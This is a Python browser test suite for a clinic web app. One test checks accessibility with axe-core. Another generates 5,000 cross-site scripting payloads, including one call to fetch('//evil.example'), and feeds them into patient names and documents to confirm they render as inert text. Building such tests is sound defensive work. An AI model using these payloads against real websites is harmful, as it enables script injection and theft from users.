"""Accessibility (WCAG 2.2 AA, as far as a program can judge) and markup that must stay text, in a real browser."""

import itertools

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page

from sync_worker.records import Role
from tests.web.browser.conftest import OpenHouse
from tests.web.browser.test_in_a_browser import wait_for

pytestmark = [pytest.mark.proof, pytest.mark.timeout(600)]

RULES = {"runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]}


def a_busy_clinic(house: OpenHouse) -> str:
    """A clinic with a question, a filed note, a doubt and a note to be reported; gives back a patient."""
    clinic = house.clinic
    house.everybody()
    house.an_account("new-owner", Role.ADMIN, second_factor=True)
    patient_id, _, _ = clinic.a_finished_document("# Plan\n\nRest.\n\n- ice\n- heat\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    wait_for(lambda: (row := house.pages.row(1)) is not None and row.note_id)
    clinic.a_patient("Ann", "Other", "1970-01-02")
    clinic.a_document(clinic.a_session("Ann Other", "1970-01-02"), "# Report\n\nWords.")
    wait_for(lambda: (row := house.pages.row(2)) is not None and row.note_id)
    clinic.a_patient("Tom", "Smith", "1990-01-02")
    clinic.a_patient("Tom", "Smith", "1990-01-02")
    clinic.a_document(clinic.a_session("Tom Smith", "1990-01-02"), "<h1>Plan</h1><h3>Deep</h3><p>Words</p>")
    wait_for(house.waiting)
    clinic.cliniko.fail_post("drop", times=1)
    clinic.a_patient("Eve", "Doubt", "1971-01-02")
    clinic.a_document(clinic.a_session("Eve Doubt", "1971-01-02"), "# Letter\n\nWords.")
    wait_for(house.pages.doubts)
    return patient_id


def violations(page: Page) -> list[str]:
    """What axe-core finds on the page that is open."""
    found = Axe().run(page, options=RULES).response["violations"]
    return [f"{one['id']}: {one['nodes'][0]['html'][:120]}" for one in found]


def test_axe_finds_nothing_on_any_page_light_or_dark_wide_or_narrow(house: OpenHouse) -> None:
    patient_id = a_busy_clinic(house)
    told = house.at_the_browser()
    house.log_in(told, "ada", "/review/2")
    told.get_by_text("Wrong patient?").click()
    told.get_by_role("button", name="It is the wrong patient").click()
    paths = ["/", "/review", "/review?for=desk", "/history", "/connect", f"/patients?patient_id={patient_id}"]
    paths += [f"/review/{entry}" for entry in (1, 2, 3, 4)] + ["/review/999"]
    found = {}
    for (dark, width), name in itertools.product(
        itertools.product((False, True), (390, 1280)), ("reception", "ada", "owner")
    ):
        page = house.at_the_browser(width=width, dark=dark, is_watched=True)
        page.goto("/login")
        found["/login", name, dark, width] = violations(page)
        house.log_in(page, name)
        for path in paths:
            page.goto(path)
            found[path, name, dark, width] = violations(page)
            overflow = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert overflow <= 0, (path, name, width)
        page.context.close()
    page = house.at_the_browser(width=390, is_watched=True)
    house.log_in(page, "new-owner")
    found["/second-factor", "new-owner", False, 390] = violations(page)
    assert {where: what for where, what in found.items() if what} == {}
    assert len(found) == 4 * 3 * (len(paths) + 1) + 1


ENDS = ("", " y", "\n\n", "**", " |", "\n---", "<!--", "-->", "]]>", "\t")
CALLS = ("window.ran=1", "alert(1)", "fetch('//evil.example')")


def payloads() -> list[str]:
    """5,000 ways to smuggle a script into a name or a text."""
    shapes = [
        "<script>{0}</script>",
        "<img src=x onerror={0}>",
        "<svg/onload={0}>",
        "<svg><script>{0}</script></svg>",
        "<iframe srcdoc='<script>parent.{0}</script>'>",
        "<a href='javascript:{0}'>click</a>",
        "[click](javascript:{0})",
        '![x](x" onerror="{0})',
        "</pre><script>{0}</script><pre>",
        "</title><script>{0}</script>",
        '"><script>{0}</script>',
        "'><img src=x onerror={0}>",
        "`<script>{0}</script>`",
        "<details open ontoggle={0}>",
        "<math><mtext><script>{0}</script></mtext></math>",
        "<style>@import 'javascript:{0}'</style>",
        "<object data='javascript:{0}'>",
        "<form action='javascript:{0}'><button autofocus>go</button></form>",
        "{{{{ {0} }}}}",
        "{{% raw %}}<script>{0}</script>",
        "&lt;script&gt;{0}&lt;/script&gt;",
        "<scr\0ipt>{0}</scr\0ipt>",
        "<SCRIPT SRC=data:text/javascript,{0}></SCRIPT>",
        "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
        "<base href='javascript:{0}//'>",
    ]
    found = [
        f"{before}{shape.format(call)}{after}"
        for shape, call, before, after in itertools.product(
            shapes,
            CALLS,
            ("", "x ", "# ", "- ", "> ", "**", "| "),
            ("", " y", "\n\n", "**", " |", "\n---", "<!--", "-->", "]]>", "\t"),
        )
    ]
    return found[:5000]


def test_5_000_pieces_of_markup_in_names_and_documents_run_no_script(house: OpenHouse) -> None:
    house.everybody()
    clinic, everything = house.clinic, payloads()
    assert len(everything) == 5000
    page = house.at_the_browser()
    house.log_in(page, "ada")
    page.on("dialog", lambda dialog: pytest.fail(f"a script spoke: {dialog.message}"))
    seen = 0
    for number in range(10):
        some = everything[number * 500 : (number + 1) * 500]
        last = some[number].replace("\n", " ")[:60]
        for _ in range(2):
            clinic.cliniko.add_patient(
                first_name=some[0][:60], last_name=last, date_of_birth=f"1980-02-{number + 1:02}"
            )
        session = clinic.a_session(f"{some[1][:60]} {last}", f"1980-02-{number + 1:02}")
        clinic.a_document(session, "\n\n".join(some), name=some[2][:200])
        wait_for(lambda: len(house.waiting()) == number + 1)  # noqa: B023
        for path in ("/review", f"/review/{house.waiting()[-1]}"):
            page.goto(path)
            assert page.evaluate("window.ran") is None
            assert page.locator("script, iframe, object, embed, style, base, [onerror], [onload]").count() == 0
            assert page.locator("a[href^='javascript']").count() == 0
        seen += page.locator("main").inner_text().count("window.ran") > 0
    assert seen == 10  # they were shown, as text
